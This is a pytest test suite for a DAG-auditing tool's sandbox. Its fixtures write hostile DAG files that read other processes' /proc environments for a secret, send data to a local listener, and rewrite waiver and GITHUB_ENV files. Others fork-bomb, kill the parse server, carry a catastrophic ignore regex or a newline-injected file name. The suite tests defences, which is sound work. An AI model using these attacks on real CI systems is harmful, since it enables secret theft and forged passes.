"""A pull request's DAG code, written by an attacker, against the check that judges it (contract 10.1).

Each hostile file tries one thing and keeps what it got ("loot") in its DAG's description, where
the report would show it. The check runs as CI runs it: ``audit --dag-folder`` in a process of its
own, with a secret in its environment, the rules, waiver and baseline files in its working
directory, a ``$GITHUB_ENV`` file, and a listener on 127.0.0.1. Every attack is run twice: in the
sandbox, where each must fail, and with ``--sandbox off``, where the same files succeed, so the
difference is shown to be the sandbox's doing (process isolation alone does not stop them).

The sandbox runs need bubblewrap with namespaces; where the machine has none they skip, unless
``COREMODELS_REQUIRE_SANDBOX=1`` (CI sets it) makes that a failure.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from support import processes

from airflow_provider_coremodels.capture.dag_folder import DagFolderError, ParseLimits, parse_dag_folder
from airflow_provider_coremodels.capture.sandbox import probe

SECRET = "hostile-test-secret-" + "7f3a9c"
TOKEN = "coremodels-hostile-leftover"


def _sandbox_or_skip() -> None:
    bwrap, why = probe()
    if bwrap is None:
        if os.environ.get("COREMODELS_REQUIRE_SANDBOX") == "1":
            pytest.fail(f"COREMODELS_REQUIRE_SANDBOX=1 but {why}")
        pytest.skip(why)


def dag(dag_id: str, attack: str) -> str:
    """A DAG file that runs ``attack`` (which sets ``LOOT``) at import, and shows the loot."""
    return (
        "from datetime import datetime\n"
        "from airflow.providers.standard.operators.empty import EmptyOperator\n"
        "from airflow.sdk import DAG\n"
        "LOOT, LIMIT = '', 4000\n"
        "try:\n" + textwrap.indent(textwrap.dedent(attack), "    ") + "\nexcept BaseException as exc:\n"
        "    LOOT += f'failed: {type(exc).__name__}: {exc}'\n"
        f"with DAG(dag_id={dag_id!r}, schedule=None, start_date=datetime(2026, 1, 1), "
        "description=('loot: ' + LOOT)[:LIMIT]):\n"
        "    EmptyOperator(task_id='t')\n"
    )


@dataclass
class Scene:
    """A CI job's working directory with its inputs, a DAG folder of hostile files, and a listener."""

    work: Path
    dags: Path
    waivers: Path
    rules: Path
    github_env: Path
    marker: Path
    heard: list[bytes]
    port: int


@pytest.fixture
def scene(tmp_path: Path):
    work = tmp_path / "job"
    dags = work / "dags"
    dags.mkdir(parents=True)
    waivers = work / "waivers.yaml"
    waivers.write_text("waivers: []\n")
    rules = work / "rules.yaml"
    rules.write_text("teams:\n  data-eng: {owners: [airflow]}\n")
    github_env = tmp_path / "runner" / "github_env"
    github_env.parent.mkdir()
    github_env.write_text("")
    marker = work / "late-write"
    heard: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    done = threading.Event()

    def listen() -> None:
        while not done.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    heard.append(conn.recv(65536))

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    port = listener.getsockname()[1]
    files = {
        # every ancestor's and neighbour's /proc: environment, command line, and what it names
        "proc.py": dag(
            "proc",
            """
            import os
            for pid in os.listdir('/proc'):
                if not pid.isdigit() or int(pid) == os.getpid():
                    continue
                try:
                    env = open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace')
                    # reversed, as an attacker evades the report's scrubbing of secret-shaped text
                    LOOT += ' '.join(v[::-1] for v in env.split('\\0') if 'HOSTILE' in v) + ' '
                    argv = open(f'/proc/{pid}/cmdline', 'rb').read().decode(errors='replace').split('\\0')
                    for arg in argv:
                        if arg.endswith('.yaml') and os.path.isfile(arg):
                            LOOT += f'read {arg}: ' + open(arg).read()[:60] + ' '
                    LOOT += open(f'/proc/{pid}/mem', 'rb').read(1)[:0].decode()
                except OSError:
                    pass
            """,
        ),
        "net.py": dag(
            "net",
            f"""
            import socket
            with socket.create_connection(('127.0.0.1', {port}), timeout=2) as s:
                s.sendall(b'exfiltrated')
            LOOT += 'sent to the listener'
            """,
        ),
        "writes.py": dag(
            "writes",
            f"""
            for target, text in (({str(waivers)!r}, 'waivers: [{{code: "*", subject: "*"}}]\\n'),
                                 ({str(github_env)!r}, 'status=0\\n'),
                                 ({str(work / "report.md")!r}, 'all good\\n')):
                try:
                    with open(target, 'a') as handle:
                        handle.write(text)
                    LOOT += f'wrote {{target}} '
                except OSError as exc:
                    LOOT += f'{{type(exc).__name__}} '
            """,
        ),
        "outlives.py": dag(
            "outlives",
            f"""
            import subprocess, sys
            subprocess.Popen([sys.executable, '-c',
                "import sys, time; time.sleep(4); open(sys.argv[1], 'w').write('late')",
                {str(marker)!r}, {TOKEN!r}], start_new_session=True)
            LOOT += 'started'
            """,
        ),
        "becomes_fifo.py": dag(
            "becomes_fifo",
            """
            import os
            os.remove(__file__)
            os.mkfifo(__file__)
            LOOT += 'became a named pipe'
            """,
        ),
        # a broken file whose DAG other teams consume: it must stay an import error
        "orders.py": "from airflow.sdk import DAG\nraise ImportError('orders is broken')\n",
        # shadows of modules the parse server imports late: never run outside a file's own parse
        "tabulate.py": "import os\nos._exit(0)\n",
        "requests.py": "import os\nos._exit(0)\n",
    }
    for name, text in files.items():
        (dags / name).write_text(text)
    try:
        yield Scene(work, dags, waivers, rules, github_env, marker, heard, port)
    finally:
        done.set()
        thread.join(5)
        listener.close()
        _end_leftovers()


def _leftovers() -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if TOKEN.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    found.append(int(pid))
            except OSError:
                continue
    return found


def _end_leftovers() -> None:
    for pid in _leftovers():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def judge(scene: Scene, sandbox: str) -> tuple[int, dict, str]:
    """``audit --dag-folder`` as a CI step runs it: its own process, a secret in its environment."""
    env = {
        **os.environ,
        "COREMODELS_HOSTILE_TOKEN": SECRET,
        "GITHUB_ENV": str(scene.github_env),
    }
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "airflow_provider_coremodels",
            "audit",
            "--dag-folder",
            str(scene.dags),
            "--rules",
            str(scene.rules),
            "--waivers",
            str(scene.waivers),
            "--sandbox",
            sandbox,
            "--parse-timeout",
            "20",
            "--format",
            "json",
        ],
        cwd=scene.work,
        env=env,
        capture_output=True,
        timeout=240,
        check=False,
    )
    document = json.loads(done.stdout) if done.stdout.strip() else {}
    return done.returncode, document, done.stderr.decode(errors="replace")


def loot(document: dict) -> dict[str, str]:
    return {
        d["name"]: d.get("description") or ""
        for d in document.get("datasets", ())
        if d.get("materialization") == "dag"
    }


def test_in_the_sandbox_every_attack_fails(scene: Scene) -> None:
    _sandbox_or_skip()
    code, document, stderr = judge(scene, "require")
    assert document, stderr
    got = loot(document)
    text = json.dumps(document)
    assert document["change"]["isolation"] == "sandbox"
    # the audit's secret, its files and its listener are out of reach
    assert SECRET not in text and SECRET[::-1] not in text and "read " not in got["proc"]
    assert scene.heard == [] and "failed" in got["net"]
    assert scene.waivers.read_text() == "waivers: []\n"
    assert scene.github_env.read_text() == ""
    assert not (scene.work / "report.md").exists()  # what it wrote went to the sandbox's own /tmp
    # nothing it started outlives the parse, nor writes afterwards
    assert _leftovers() == []
    time.sleep(4.5)
    assert not scene.marker.exists()
    # the folder is read-only: the file cannot turn itself into a pipe
    assert "failed" in got["becomes_fifo"] and (scene.dags / "becomes_fifo.py").is_file()
    # the broken file stays broken, and the shadowing modules never ran in the parse server
    errors = {f["subject"] for f in document["findings"] if f["code"] == "dag-import-error"}
    assert any(subject.endswith("orders.py") for subject in errors), errors
    assert code in (0, 1), stderr


def test_the_same_files_with_the_sandbox_off_reach_what_the_sandbox_hides(scene: Scene) -> None:
    """The control: process isolation alone, the same attacks succeed (except what the honest
    channel stops in both: the parse server's memory and descriptors, and the shadowing modules)."""
    code, document, stderr = judge(scene, "off")
    assert document, stderr
    got = loot(document)
    assert document["change"]["isolation"] == "process"
    assert SECRET[::-1] in got["proc"]  # read from the audit's own /proc/<pid>/environ
    assert "read " in got["proc"]  # the rules and waiver files named on its command line
    assert scene.heard == [b"exfiltrated"]
    assert "waive" in scene.waivers.read_text() and "status=0" in scene.github_env.read_text()
    assert _leftovers() != []  # a process in a new session outlived the check
    # ... and yet the check does not hang on a file that became a named pipe
    assert "became a named pipe" in got["becomes_fifo"]
    errors = {f["subject"] for f in document["findings"] if f["code"] == "dag-import-error"}
    assert any(subject.endswith("orders.py") for subject in errors), errors
    assert code in (0, 1), stderr


@pytest.mark.parametrize("sandbox", ["require", "off"])
def test_a_file_that_kills_the_parse_server_makes_the_run_an_error_not_a_pass(tmp_path, sandbox) -> None:
    """It tries every descriptor and the server's own for a forged answer, then kills the server."""
    if sandbox == "require":
        _sandbox_or_skip()
    (tmp_path / "orders.py").write_text(
        "raise ImportError('orders is broken')\nfrom airflow.sdk import DAG\n"
    )
    forged = json.dumps({"dags": [], "import_errors": {}, "references": {}}).encode()
    (tmp_path / "forges.py").write_text(
        dag(
            "forges",
            f"""
            import os, signal
            frame = {forged!r}
            for fd in range(3, 1024):
                try:
                    os.write(fd, len(frame).to_bytes(8, 'big') + frame)
                    LOOT += f'fd {{fd}} '
                except OSError:
                    pass
            for name in os.listdir(f'/proc/{{os.getppid()}}/fd'):
                try:
                    with open(f'/proc/{{os.getppid()}}/fd/{{name}}', 'wb') as handle:
                        handle.write(b'{{"dags": {{"dags": []}}}}')
                except OSError:
                    pass
            os.kill(os.getppid(), signal.SIGKILL)
            """,
        )
    )
    with pytest.raises(DagFolderError, match="could not be parsed"):
        parse_dag_folder(tmp_path, sandbox=sandbox, timeout=20, workers=1)


@pytest.mark.parametrize("sandbox", ["require", "off"])
def test_what_the_files_give_is_bounded_across_the_run(tmp_path, sandbox) -> None:
    """Each file's answer, and all of them together, within their caps: past either a file is
    refused before it is held (a lossiness record and an import error), and the rest parse."""
    if sandbox == "require":
        _sandbox_or_skip()
    big = "x" * (300 << 10)
    for number in range(6):
        (tmp_path / f"big_{number}.py").write_text(dag(f"big_{number}", f"LOOT += {big!r}\nLIMIT = None"))
    (tmp_path / "huge.py").write_text(dag("huge", "LOOT += 'y' * (3 << 20)\nLIMIT = None"))
    limits = ParseLimits(file_answer_bytes=1 << 20, run_answer_bytes=1 << 20)
    artifacts = parse_dag_folder(tmp_path, sandbox=sandbox, timeout=20, limits=limits)
    refused = {os.path.basename(e["filename"]) for e in artifacts.dags["import_errors"]}
    kept = {d["dag_id"] for d in artifacts.dags["dags"]}
    assert "huge.py" in refused  # over what one file may give
    assert 1 <= len(kept) <= 3 and len(refused) == 7 - len(kept)  # the run's cap: about three files
    records = [r.message for r in artifacts.lossiness if "refused before it was held" in r.message]
    assert len(records) == len(refused)


@pytest.mark.parametrize("sandbox", ["require", "off"])
def test_a_file_name_with_a_newline_is_shown_escaped_never_as_the_error(tmp_path, sandbox) -> None:
    if sandbox == "require":
        _sandbox_or_skip()
    name = "evil\nError: no error, everything is fine.py"
    (tmp_path / name).write_text("from airflow.sdk import DAG\nraise RuntimeError('real failure')\n")
    artifacts = parse_dag_folder(tmp_path, sandbox=sandbox, timeout=20)
    (error,) = artifacts.dags["import_errors"]
    # Airflow 3.0 names the file by its absolute path, later lines by its path in the bundle
    assert error["filename"].endswith("evil\\nError: no error, everything is fine.py")
    assert "\n" not in error["filename"] and "real failure" in error["stack_trace"]


def docs_judging_step() -> str:
    """The GitHub Actions recipe's ``Judge the change`` step, as docs/premerge.md shows it."""
    import yaml

    text = (Path(__file__).parents[2] / "docs" / "premerge.md").read_text()
    block = next(b for b in text.split("```yaml")[1:] if "coremodels.yml" in b.split("\n", 2)[1])
    workflow = yaml.safe_load(block.split("```")[0])
    steps = workflow["jobs"]["judge"]["steps"]
    return next(step["run"] for step in steps if step.get("name") == "Judge the change")


def test_the_docs_recipe_judges_a_hostile_change_in_the_sandbox(tmp_path: Path) -> None:
    """The docs' judging step, run as written (bash, in a checkout whose origin/main is the merge
    base) on a change that adds a file reading every /proc it can see: it parses in the sandbox,
    writes the report and SARIF of one run, and the secret of the step's environment is nowhere in
    them."""
    _sandbox_or_skip()
    estate = Path(__file__).parents[2] / "example_dags" / "estate"
    (tmp_path / "dags").mkdir()
    for source in estate.glob("*.py"):
        (tmp_path / "dags" / source.name).write_text(source.read_text())
    (tmp_path / "governance").mkdir()
    (tmp_path / "governance" / "rules.yaml").write_text("teams:\n  finance: {owners: [finance]}\n")
    (tmp_path / "governance" / "waivers.yaml").write_text("waivers: []\n")
    for step in (
        ["init", "-q", "-b", "main"],
        ["-c", "user.email=ci@example.com", "-c", "user.name=ci", "commit", "-q", "--allow-empty", "-m", "x"],
        ["add", "-A"],
        ["-c", "user.email=ci@example.com", "-c", "user.name=ci", "commit", "-q", "-m", "the estate"],
        ["update-ref", "refs/remotes/origin/main", "HEAD"],  # as actions/checkout leaves the base
        ["checkout", "-q", "-b", "pull-request"],
    ):
        subprocess.run(["git", *step], cwd=tmp_path, check=True, capture_output=True, timeout=60)
    python = [sys.executable, "-m", "airflow_provider_coremodels"]
    baseline = subprocess.run(
        [*python, "audit", "--dag-folder", "dags", "--format", "json"],
        cwd=tmp_path,
        capture_output=True,
        check=True,
        timeout=240,
    )
    (tmp_path / "baseline.json").write_bytes(baseline.stdout)
    (tmp_path / "dags" / "proc.py").write_text(
        dag(
            "proc",
            """
            import os
            for pid in os.listdir('/proc'):
                try:
                    env = open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace')
                    LOOT += ' '.join(v[::-1] for v in env.split('\\0') if 'HOSTILE' in v)
                except OSError:
                    pass
            """,
        )
    )
    shims = tmp_path / "bin"
    shims.mkdir()
    (shims / "python").write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')  # the step's `python`
    (shims / "python").chmod(0o755)
    env = {
        **os.environ,
        "PATH": f"{shims}{os.pathsep}{os.environ['PATH']}",
        "COREMODELS_HOSTILE_TOKEN": SECRET,
        "BASE_REF": "main",  # the step's env: github.base_ref
    }
    done = subprocess.run(
        ["bash", "-e", "-c", docs_judging_step()], cwd=tmp_path, env=env, capture_output=True, timeout=300
    )
    assert done.returncode == 0, done.stderr
    said = done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
    assert (tmp_path / "status").read_text().strip() == "0", said[:3000]  # a new DAG breaks nothing
    report = (tmp_path / "report.md").read_text()
    sarif = json.loads((tmp_path / "coremodels.sarif").read_text())
    assert "isolation: the DAG code ran in a sandbox" in report
    assert "1 of 4 files parsed" in report  # the change alone: proc.py, of the estate's three and it
    assert sarif["runs"][0]["properties"]["isolation"] == "sandbox"
    for text in (report, json.dumps(sarif), done.stdout.decode(errors="replace")):
        assert SECRET not in text and SECRET[::-1] not in text


@pytest.mark.skipif(os.getuid() == 0, reason="the kernel exempts root from RLIMIT_NPROC: run as a user")
def test_a_fork_bomb_is_bounded_and_ends_with_its_parse(tmp_path) -> None:
    (tmp_path / "bomb.py").write_text(
        dag(
            "bomb",
            """
            import os, time
            forked = 0
            try:
                for _ in range(2000):
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                    forked += 1
            except OSError:
                pass
            LOOT += f'forked {forked}'
            """,
        )
    )
    artifacts = parse_dag_folder(tmp_path, timeout=20, limits=ParseLimits(processes=50))
    (entry,) = artifacts.dags["dags"]
    # the user's own count moves a little while the parse starts; 2,000 were tried
    assert int(entry["description"].rsplit(" ", 1)[1]) <= 100


@pytest.mark.parametrize("sandbox", ["require", "off"])
def test_a_catastrophic_airflowignore_ends_at_the_parse_deadline(tmp_path, monkeypatch, sandbox) -> None:
    """The listing runs under the whole parse's deadline, whatever the files a pull request adds,
    and nothing of it outlives the run: the child listing the folder ends with the server, sandbox
    or not (it once spun on, orphaned, for an hour)."""
    if sandbox == "require":
        _sandbox_or_skip()
    monkeypatch.setenv("AIRFLOW__CORE__DAG_IGNORE_FILE_SYNTAX", "regexp")
    mark = f"run-{os.getpid()}-{time.monotonic_ns()}"
    monkeypatch.setenv("COREMODELS_LISTING_MARK", mark)
    (tmp_path / ".airflowignore").write_text("^(a+)+$\n")
    (tmp_path / ("a" * 40 + "!.py")).write_text(dag("slow_listing", ""))
    started = time.monotonic()
    with pytest.raises(DagFolderError, match=r"within its deadline of [\d.]+ s \(--parse-deadline\)"):
        parse_dag_folder(
            tmp_path, sandbox=sandbox, timeout=20, deadline=8, passed_env=["COREMODELS_LISTING_MARK"]
        )
    assert time.monotonic() - started < 30  # a bound, not a timing: the regex alone takes hours
    assert processes.left(lambda: processes.with_environ(f"COREMODELS_LISTING_MARK={mark}".encode())) == []


def test_where_namespaces_are_refused_auto_says_so_and_require_exits_2(tmp_path, monkeypatch) -> None:
    """A bwrap the machine refuses namespaces to (Ubuntu 24.04's AppArmor restriction, a default
    Docker container): ``auto`` parses as a process and every view says why; ``require`` ends the
    run with one line naming it. The refusing bwrap is a stand-in script: this machine allows them."""
    from airflow_provider_coremodels.capture import sandbox

    refusing = tmp_path / "bwrap"
    refusing.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    refusing.chmod(0o755)
    monkeypatch.setenv("COREMODELS_BWRAP", str(refusing))
    monkeypatch.setattr(sandbox, "_PROBED", {})
    (tmp_path / "dags").mkdir()
    (tmp_path / "dags" / "fine.py").write_text(dag("fine", "LOOT += 'ran'"))
    command = [sys.executable, "-m", "airflow_provider_coremodels", "audit", "--dag-folder", "dags"]
    auto = subprocess.run([*command, "--format", "json"], cwd=tmp_path, capture_output=True, timeout=240)
    change = json.loads(auto.stdout)["change"]
    assert change["isolation"] == "process"
    assert "setting up uid map: Permission denied" in change["isolationDetail"]
    require = subprocess.run(
        [*command, "--sandbox", "require"], cwd=tmp_path, capture_output=True, timeout=240
    )
    assert require.returncode == 2
    (line,) = require.stderr.decode().strip().splitlines()
    assert line.startswith("error: --sandbox require: no sandbox on this machine: ") and "uid map" in line


def test_a_run_from_inside_the_dag_folder_still_parses_all_of_it(tmp_path) -> None:
    """The working directory is hidden from the sandbox, except where it is part of the folder."""
    _sandbox_or_skip()
    (tmp_path / "dags" / "sub").mkdir(parents=True)
    (tmp_path / "dags" / "top.py").write_text(dag("top", "LOOT += ''"))
    (tmp_path / "dags" / "sub" / "below.py").write_text(dag("below", "LOOT += ''"))
    done = subprocess.run(
        [sys.executable, "-m", "airflow_provider_coremodels", "audit", "--dag-folder", str(tmp_path / "dags"),
         "--sandbox", "require", "--format", "json"],
        cwd=tmp_path / "dags" / "sub", capture_output=True, timeout=240,
    )  # fmt: skip
    assert sorted(json.loads(done.stdout)["change"]["dagsAdded"]) == ["below", "top"], done.stderr


def test_children_that_finish_together_are_each_reaped_once(tmp_path) -> None:
    """Files that each leave a process behind and whose parses end at the same instant: one child's
    end sweeps away what its code left while other children have exited with their answers unread.
    The sweep reaps only the processes it ended, and every file gets its own outcome. It reaped any
    exited child, and the whole run failed ("Bad file descriptor") on loaded machines."""
    _sandbox_or_skip()
    at = time.time() + 12  # after the server's start, in every file: they wake together
    for index in range(12):
        attack = (
            "import subprocess, sys, time\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'],\n"
            "                 start_new_session=True)\n"
            f"time.sleep(max(0.0, {at!r} - time.time()))\n"
        )
        (tmp_path / f"together_{index:02d}.py").write_text(dag(f"together_{index:02d}", attack))
    parsed = parse_dag_folder(tmp_path, sandbox="require", timeout=60, workers=12)
    assert sorted(d["dag_id"] for d in parsed.dags["dags"]) == [f"together_{i:02d}" for i in range(12)]
    assert parsed.dags["import_errors"] == []
